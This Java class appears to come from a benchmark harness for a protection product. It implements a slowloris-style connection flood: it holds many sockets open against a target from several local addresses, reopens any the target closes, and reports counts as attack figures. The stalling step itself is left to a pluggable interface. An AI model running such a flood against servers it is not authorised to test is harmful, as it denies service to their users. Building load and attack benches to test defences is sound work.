package io.guardbee.bench.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.LongAdder;
import org.jspecify.annotations.Nullable;

/**
 * Sockets that an attacker holds open, in equal shares from several addresses; those that the
 * target closes are opened again, a bounded number a second.
 */
final class Flood implements AutoCloseable {

  private static final int TIMEOUT_MILLIS = 3000;
  private static final int KEEPERS_PER_ADDRESS = 4;
  private static final int PASSES_UNTIL_ALL_ARE_NEW = 5;
  private static final int PASS_MILLIS = 1000;
  private static final int ANSWER = 4096;
  private static final int STOP_SECONDS = 30;

  /** One way to open a socket that then waits. */
  interface Opening {
    /**
     * Makes the target wait for the rest of what this socket begins.
     *
     * @param plain connected, with a time limit for reading
     * @return the socket to read from
     */
    Socket begin(Socket plain) throws IOException;
  }

  /**
   * The target and the attacker.
   *
   * @param addresses of this machine, from which sockets are opened
   * @param opening how each begins
   */
  record Plan(URI target, List<InetAddress> addresses, Opening opening) {}

  private final Plan plan;
  private final ExecutorService threads = Executors.newCachedThreadPool();
  private final AtomicBoolean going = new AtomicBoolean(true);
  private final LongAdder opened = new LongAdder();
  private final LongAdder refused = new LongAdder();
  private final LongAdder open = new LongAdder();

  private Flood(Plan plan) {
    this.plan = plan;
  }

  /** Opens the sockets and returns when each was tried once. */
  static Flood start(Plan plan, int sockets) throws InterruptedException {
    Flood flood = new Flood(plan);
    int keepers = plan.addresses().size() * KEEPERS_PER_ADDRESS;
    List<Future<Keeper>> tried = new ArrayList<>();
    for (int i = 0; i < keepers; i++) {
      int share = sockets / keepers + (i < sockets % keepers ? 1 : 0);
      InetAddress from = plan.addresses().get(i % plan.addresses().size());
      tried.add(flood.threads.submit(() -> flood.new Keeper(from, share).first()));
    }
    try {
      for (Future<Keeper> one : tried) {
        Keeper keeper = one.get();
        Future<?> unused = flood.threads.submit(keeper::keep);
      }
    } catch (ExecutionException e) {
      flood.close();
      throw new IllegalStateException("the attack failed", e.getCause());
    }
    return flood;
  }

  /** Figures of what the attacker reached up to now. */
  List<AttackFigure> figures(String prefix, String name) {
    return List.of(
        AttackFigure.of(prefix + ".opened", opened.doubleValue(), "%s: sockets opened", name),
        AttackFigure.of(
            prefix + ".refused",
            refused.doubleValue(),
            "%s: not taken, or closed by the target",
            name),
        AttackFigure.of(prefix + ".open", open.doubleValue(), "%s: still open", name));
  }

  /** One thread's share of the sockets. */
  private final class Keeper {

    private final InetAddress from;
    private final @Nullable Socket[] sockets;

    Keeper(InetAddress from, int share) {
      this.from = from;
      this.sockets = new @Nullable Socket[share];
    }

    Keeper first() {
      for (int i = 0; i < sockets.length && going.get(); i++) {
        sockets[i] = begin();
      }
      return this;
    }

    @Nullable Void keep() throws InterruptedException {
      while (going.get()) {
        long start = System.nanoTime();
        int mayOpen = Math.max(1, sockets.length / PASSES_UNTIL_ALL_ARE_NEW);
        for (int i = 0; i < sockets.length && going.get(); i++) {
          Socket socket = sockets[i];
          if (socket != null && isClosed(socket)) {
            close(socket);
            sockets[i] = null;
          }
          if (sockets[i] == null && mayOpen-- > 0) {
            sockets[i] = begin();
          }
        }
        long spent = (System.nanoTime() - start) / 1_000_000;
        TimeUnit.MILLISECONDS.sleep(Math.max(1, PASS_MILLIS - spent));
      }
      for (Socket socket : sockets) {
        if (socket != null) {
          close(socket);
        }
      }
      return null;
    }

    private @Nullable Socket begin() {
      Socket plain = new Socket();
      try {
        opened.increment();
        plain.bind(new InetSocketAddress(from, 0));
        plain.connect(
            new InetSocketAddress(plan.target().getHost(), plan.target().getPort()),
            TIMEOUT_MILLIS);
        plain.setSoTimeout(TIMEOUT_MILLIS);
        Socket begun = plan.opening().begin(plain);
        begun.setSoTimeout(1);
        open.increment();
        return begun;
      } catch (IOException e) {
        refused.increment();
        end(plain);
        return null;
      }
    }

    private boolean isClosed(Socket socket) {
      try {
        return socket.getInputStream().read(new byte[ANSWER]) < 0;
      } catch (SocketTimeoutException e) {
        return false;
      } catch (IOException e) {
        return true;
      }
    }

    private void close(Socket socket) {
      open.decrement();
      if (going.get()) {
        refused.increment();
      }
      end(socket);
    }

    private void end(Socket socket) {
      try {
        socket.close();
      } catch (IOException e) {
        // it is gone either way
      }
    }
  }

  @Override
  public void close() {
    going.set(false);
    threads.shutdown();
    try {
      if (!threads.awaitTermination(STOP_SECONDS, TimeUnit.SECONDS)) {
        threads.shutdownNow();
      }
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
